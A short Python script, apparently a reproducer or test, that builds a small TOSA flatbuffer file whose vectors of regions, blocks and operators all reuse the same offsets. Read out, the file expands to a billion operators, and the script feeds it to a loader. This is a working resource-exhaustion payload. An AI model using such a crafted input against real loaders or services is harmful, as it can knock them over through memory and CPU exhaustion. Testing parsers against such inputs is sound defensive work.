"""A small file whose regions, blocks and operators all point to the same parts: read out, it is a billion operators."""

from __future__ import annotations

import sys
from collections.abc import Callable

import flatbuffers
from _loading import load
from tosa import Op, TosaBasicBlock, TosaGraph, TosaOperator, TosaRegion, Version

COPIES = 1000


def repeated(builder: flatbuffers.Builder, start: Callable[[flatbuffers.Builder, int], int], part: int) -> int:
    start(builder, COPIES)
    for _ in range(COPIES):
        builder.PrependUOffsetTRelative(part)
    return int(builder.EndVector())


def hostile_file() -> bytes:
    builder = flatbuffers.Builder()
    name = builder.CreateString("x")
    TosaOperator.Start(builder)
    TosaOperator.AddOp(builder, Op.Op.ADD)
    operators = repeated(builder, TosaBasicBlock.StartOperatorsVector, TosaOperator.End(builder))
    TosaBasicBlock.Start(builder)
    TosaBasicBlock.AddName(builder, name)
    TosaBasicBlock.AddOperators(builder, operators)
    blocks = repeated(builder, TosaRegion.StartBlocksVector, TosaBasicBlock.End(builder))
    TosaRegion.Start(builder)
    TosaRegion.AddName(builder, name)
    TosaRegion.AddBlocks(builder, blocks)
    regions = repeated(builder, TosaGraph.StartRegionsVector, TosaRegion.End(builder))
    Version.Start(builder)
    Version.Add_Major(builder, 1)
    Version.Add_Minor(builder, 1)
    Version.Add_Patch(builder, 0)
    version = Version.End(builder)
    TosaGraph.Start(builder)
    TosaGraph.AddVersion(builder, version)
    TosaGraph.AddRegions(builder, regions)
    builder.Finish(TosaGraph.End(builder), b"TOSA")
    return bytes(builder.Output())


if __name__ == "__main__":
    sys.exit(load(hostile_file()))
